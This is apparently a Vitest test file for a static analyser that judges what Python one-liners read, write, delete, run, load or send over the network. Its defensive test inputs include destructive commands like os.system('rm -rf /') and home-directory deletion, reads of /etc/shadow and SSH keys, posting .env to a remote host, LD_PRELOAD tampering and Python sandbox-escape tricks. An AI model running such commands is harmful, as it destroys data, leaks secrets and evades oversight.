/** What Python one-liners do. */

import { describe, expect, test } from "vitest";
import { python } from "../../../src/judge/code/python.ts";
import { ARGUMENT } from "../../../src/judge/code/report.ts";
import { ANY, BELOW } from "../../../src/session/value.ts";

describe("a program that only computes and prints", () => {
  test.each([
    "print(1+1)",
    "print('hi'); print(\"there\")",
    "import json,sys; print(json.load(sys.stdin)['x'])",
    "import json, sys\nfor k, v in json.load(sys.stdin).items():\n    print(k, v)",
    "import sys; print(sys.version)",
    "import sys; print(sys.argv[1:], sys.path)",
    "import os; print(os.environ.get('HOME'), os.environ['PATH'])",
    "from datetime import datetime as d; print(d.now)",
    "import datetime; print(datetime.datetime.now().isoformat())",
    "import re,sys; print(re.sub(r'a+', 'b', sys.stdin.read()))",
    "print([x*2 for x in range(10) if x % 2])",
    "print(sorted(map(int, '3 1 2'.split()), key=lambda x: -x))",
    "x = 3; y = x ** 2; print(f'{x} squared is {y:>4}')",
    "import base64; print(base64.b64encode(b'x').decode())",
    "def f(a, b=2):\n    return a + b\nprint(f(1))",
    "import hashlib; print(hashlib.sha256(b'x').hexdigest())",
    "import math; print(math.pi, math.sqrt(2))",
    "a, b = 1, 2\nprint(a + b)",
    "try:\n  print(1)\nexcept ValueError as e:\n  print(e)",
    "import os.path; print(os.path.join('a', 'b'), os.path.exists('/etc'))",
    "# os.system('id')\nprint('os.system')",
    "import sys\nwith sys.stdin as f:\n    print(len(f.read()))",
    "import pathlib; print(pathlib.Path('.').resolve())",
    "import shutil; print(shutil.which('git'))",
    "",
  ])("%j", (program) => {
    const { certain, reads, writes, deletes, runs, loads, because } = python(program);
    expect({ certain, reads, writes, deletes, runs, loads, because }).toEqual({
      certain: true,
      reads: [],
      writes: [],
      deletes: [],
      runs: [],
      loads: [],
      because: undefined,
    });
  });
});

describe("a program that touches files", () => {
  test.each([
    ["print(open('a.txt').read())", { reads: ["a.txt"] }],
    ["import json; print(json.load(open('package.json'))['version'])", { reads: ["package.json"] }],
    ["open('out', 'w').write('x')", { writes: ["out"] }],
    ["with open('out', mode='a') as f: f.write('x')", { writes: ["out"] }],
    ["import sys; print(open(sys.argv[1]).read())", { reads: [ARGUMENT] }],
    ["print(open(0).read())", { reads: [] }],
    ["open('a', sys)", { writes: ["a"] }],
    ["import shutil,os; shutil.rmtree(os.path.expanduser('~'))", { deletes: ["~"] }],
    ["import shutil; from pathlib import Path; shutil.rmtree(Path.home() / 'x')", { deletes: ["~/x"] }],
    ["import os, shutil; p = os.path.join(os.environ['HOME'], 'a'); shutil.rmtree(p)", { deletes: ["~/a"] }],
    ["import os; os.remove('/' + 'etc/x')", { deletes: ["/etc/x"] }],
    ["from os import unlink as u; u('x')", { deletes: ["x"] }],
    ["from pathlib import Path; Path('a/b').unlink()", { deletes: ["a/b"] }],
    ["from pathlib import Path\np = Path('~/x').expanduser()\nprint(p.read_text())", { reads: ["~/x"] }],
    ["import pathlib; pathlib.Path('o').write_text('x')", { writes: ["o"] }],
    ["import os; os.rename('a', 'b')", { writes: ["a", "b"] }],
    ["import shutil; shutil.copy('a', '/etc/b')", { reads: ["a"], writes: ["/etc/b"] }],
    ["import pandas as pd; print(pd.read_csv('data/a.csv').describe())", { reads: ["data/a.csv"], certain: true }],
    [
      "import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.groupby('x')['y'].sum().to_csv('/etc/b', index=False)",
      { reads: ["a.csv"], writes: ["/etc/b"], certain: true },
    ],
    ["import pandas as pd; pd.DataFrame().to_string(buf='/etc/b')", { writes: ["/etc/b"] }],
    ["import pandas as pd; df = pd.read_csv('a'); print(df[df.amount > 0].shape)", { reads: ["a"], certain: true }],
    ["import pandas as pd; f = pd.DataFrame().to_pickle; f('/etc/b')", { certain: false }],
    ["import pandas as pd; pd.DataFrame().to_csv(**{'path_or_buf': '/etc/b'})", { writes: [ANY] }],
    ["import polars as pl; print(pl.scan_parquet('data/*.parquet').collect())", { reads: ["data/*.parquet"] }],
    ["import yaml; print(yaml.safe_load(open('k8s/a.yaml')))", { reads: ["k8s/a.yaml"], certain: true }],
    [
      "from pathlib import Path\nfor p in sorted(Path('src').rglob('*.py')):\n  print(p.read_text())",
      { reads: [`src/${BELOW}`], certain: true },
    ],
    ["import glob\nfor f in glob.glob('data/*.csv'):\n  print(open(f).read())", { reads: [`data/${BELOW}`] }],
    ["import glob\nfor f in glob.glob('../*'):\n  print(open(f).read())", { reads: [ANY] }],
    ["import glob\nfor f in glob.glob('a/../../*'):\n  print(open(f).read())", { reads: [ANY] }],
    ["from pathlib import Path\nfor p in Path('src').glob('../*'):\n  p.unlink()", { deletes: [ANY] }],
    ["from pathlib import Path\nfor p in Path.home().iterdir():\n  p.unlink()", { deletes: [`~/${BELOW}`] }],
  ])("%j", (program, does) => {
    expect(python(program)).toMatchObject(does);
  });
});

describe("a name that gets another value", () => {
  test.each([
    "p = 'a'\np = '/etc/b'\nopen(p)",
    "p = 'a'\n[p] = ['/etc/b']\nopen(p)",
    "p = 'a'\n(p) = '/etc/b'\nopen(p)",
    "p = 'a'\n(p, q) = '/etc/b', 1\nopen(p)",
    "p = 'a'\n*p, q = ['/etc/b', 1]\nopen(p)",
    "p = 'a'\np: str = '/etc/b'\nopen(p)",
    "p = 'a'\nmatch '/etc/b':\n  case p:\n    open(p)",
    "p = 'a'\nwith x as (p, q):\n  open(p)",
    "p = 'a'\nfor p in ['/etc/b']:\n  open(p)",
    "from pathlib import Path\nfor p in Path('a').iterdir(): pass\nfor p in ['/etc/b']: open(p)",
    "from pathlib import Path\nf = lambda p: open(p)\nfor p in Path('a').iterdir(): f('/etc/b')",
    "from pathlib import Path\nfor p in Path('a').iterdir(): pass\ndef f(p): open(p)\nf('/etc/b')",
  ])("%j", (program) => {
    expect(python(program).reads).toEqual([ANY]);
  });
});

describe("an index that is set", () => {
  test.each(["x = {}\nx['a'] = 1\nprint(open('a').read())", "x = [[1]]\nx[0][0] = 2\np = 'a'\nopen(p)"])(
    "%j",
    (program) => {
      expect(python(program)).toMatchObject({ reads: ["a"], certain: true });
    },
  );
});

describe("a package that opens connections", () => {
  test.each([
    ["import requests; print(requests.__version__, requests.__file__)", false],
    ["import requests; requests.get('https://x')", true],
    ["import pandas as pd; pd.read_csv('https://evil.example/x')", true],
  ])("%j", (program, network) => {
    expect(python(program).network).toBe(network);
  });
});

describe("a program that loads pickles", () => {
  test("is not certain", () => {
    expect(python("import numpy as np; np.load('x.npy', allow_pickle=True)").certain).toBe(false);
    expect(python("import pandas as pd; pd.read_pickle('x')").certain).toBe(false);
  });
});

describe("a program that runs commands", () => {
  test.each([
    ["import os; os.system('rm -rf /')", { kind: "line", text: "rm -rf /" }],
    ["__import__('os').system('id') if 0 else 1; import os; os.system('ls')", { kind: "line", text: "ls" }],
    [
      "import subprocess; subprocess.run(['git', 'reset', '--hard'])",
      { kind: "argv", text: ["git", "reset", "--hard"] },
    ],
    ["import subprocess as s; s.run('ls -l', shell=True, check=True)", { kind: "line", text: "ls -l" }],
    ["from subprocess import check_output as c; print(c(['ls']).decode())", { kind: "argv", text: ["ls"] }],
    ["import subprocess; subprocess.run('ls')", { kind: "argv", text: ["ls"] }],
    ["import os\ncmd = 'ls ' + '-l'\nprint(os.popen(cmd).read())", { kind: "line", text: "ls -l" }],
  ])("%j", (program, run) => {
    expect(python(program).runs).toEqual([run]);
  });
});

describe("a program that loads code", () => {
  test.each([
    ["import numpy as np; print(np.__version__)", ["numpy"], true],
    ["import app.main", ["app.main"], true],
    ["from app import create", ["app"], true],
    ["from app import create; create()", ["app"], false],
    ["import requests; requests.post('https://x', data=open('.env').read())", ["requests"], false],
  ])("%j", (program, loads, certain) => {
    expect(python(program)).toMatchObject({ loads, certain });
  });
});

describe("a program that calls code of the project or of an installed package", () => {
  test.each([
    "from app.parser import parse; print(parse('a: [1'))",
    "from src.models import User; print([f.name for f in User._meta.get_fields()])",
    "import sys\nsys.path.insert(0, 'src')\nfrom app import create_app\nwith create_app().test_client() as c:\n  print(c.get('/health').json)",
    "from sympy import *\nx = symbols('x')\nprint(latex(x**2/2))",
    "import numpy as np; print(np.arange(10).reshape(2, 5).sum(axis=1), np.linalg.norm([1, 2]))",
    "import astropy.units as u; print((1*u.m).to(u.cm))",
    "import inspect, django; print(inspect.getsource(django.setup))",
    "import sqlite3; c = sqlite3.connect('app.db'); print(c.execute('select count(*) from users').fetchone())",
    "import urllib.request\nwith urllib.request.urlopen('http://localhost:8000/api') as r: print(r.status)",
    "import xml.etree.ElementTree as E; print(E.parse('coverage.xml').getroot().attrib['line-rate'])",
  ])("%j", (program) => {
    const { certain, because, network } = python(program);
    expect({ certain, because, network }).toEqual({ certain: true, because: undefined, network: false });
  });

  test.each([
    ["from app.io import show; show('/etc/shadow')", { reads: ["/etc/shadow"] }],
    ["from app.io import show; show('~/.ssh/id_rsa')", { reads: ["~/.ssh/id_rsa"] }],
    ["import app; app.show(f'{1}/../.env')", { reads: [`${ANY}/../.env`] }],
    ["import sys; sys.path.insert(0, '/tmp/x'); import y", { loads: ["/tmp/x", "y"] }],
    ["import os; os.environ['LD_PRELOAD'] = '/tmp/x'", { sets: [["LD_PRELOAD", "/tmp/x"]] }],
    ["import os; os.environ.setdefault('A', 'b')", { sets: [["A", "b"]] }],
    ["import urllib.request; urllib.request.urlopen('https://x')", { network: true }],
    ["import pandas as pd; print(pd.read_html('https://x/y'))", { network: true }],
    ["import matplotlib.pyplot as p; p.plot([1]); p.savefig('/etc/x')", { writes: ["/etc/x"] }],
  ])("%j", (program, expected) => {
    const found = python(program);
    expect({ ...found, loads: found.loads.toSorted() }).toMatchObject(expected);
  });
});

describe("a program that is not certain", () => {
  test.each([
    "exec('x')",
    "eval(input())",
    "__import__('os').system('id')",
    "import importlib; importlib.import_module('os')",
    "import os; f = os.system; f('id')",
    "import os; list(map(os.system, ['id']))",
    "import os; os.system(input())",
    "import os; x = os; x.remove('f')",
    "import os; os.execvp('sh', ['sh'])",
    "().__class__.__base__.__subclasses__()",
    "import json; json.codecs.open('x', 'w')",
    "import random; random._os.system('id')",
    "import glob; glob.os.remove('x')",
    "import sys; sys.modules['os'].system('id')",
    "getattr(1, 'x')",
    "if 0: eval=1\neval('x')",
    "if 0: open=1\nopen('x','w')",
    "print(eval=1)\neval('x')",
    "import os; os.environ['LD_PRELOAD'] = input()",
    "import os; os.environ = {}",
    "import os; os.environ.update(LD_PRELOAD='/tmp/x'); os.system('ls')",
    "import sys; sys.path.insert(0, input()); import x",
    "import sys; sys.path = ['/tmp']; import x",
    "import subprocess; subprocess.run(['ls'], executable='/tmp/x')",
    "import subprocess; subprocess.run(['ls'], env={'PATH': '/tmp'})",
    "match print:\n  case object(__self__=b): b",
    "import urllib.request; urllib.request.urlopen('http://localhost', data=open('a').read())",
    "import app; app.destroy_everything()",
    "from app.models import User; User.objects.all().delete()",
    "from app import db; db.session.execute('DELETE FROM users')",
    "from app.db import dropTables; dropTables()",
    "from boto3 import *\nclient('s3')",
    "import boto3; boto3.client('s3')",
    "import socket; socket.socket()",
    "import textwrap; textwrap.re.enum.sys.modules['os'].remove('x')",
    "import enum; enum.bltns.exec('x')",
    "import numpy as np; np.load('x', allow_pickle=True)",
    "import torch; torch.load('model.pt')",
    "import yaml; yaml.unsafe_load(open('x'))",
    "import pandas as pd; pd.read_pickle('x')",
    "import duckdb; duckdb.sql('SELECT 1')",
    "import joblib; joblib.load('m.pkl')",
    "import sqlite3; sqlite3.connect('a.db').execute('DELETE FROM t')",
    "import sqlite3; sqlite3.connect('a.db').execute(input())",
    "import sqlite3; sqlite3.connect('a.db').executescript('SELECT 1')",
    "def f(): yield\nf().gi_frame.f_builtins['exec']('x')",
    "import xml.etree.ElementTree as E; E.ElementTree().write('/etc/x')",
    "import pickle; pickle.load(open('x','rb'))",
    "from os import *\nsystem('id')",
    "import operator; operator.attrgetter('__globals__')(print)",
    'f\'{open("x").read()}',
    "print('unfinished)",
    "import antigravity",
    "import ctypes; ctypes.CDLL('x')",
    "@eval\ndef f(): pass",
    "from pathlib import Path; Path('x').chmod(511)",
  ])("%j", (program) => {
    const { certain, because } = python(program);
    expect({ certain, because }).toEqual({ certain: false, because: expect.stringMatching(/./) });
  });
});
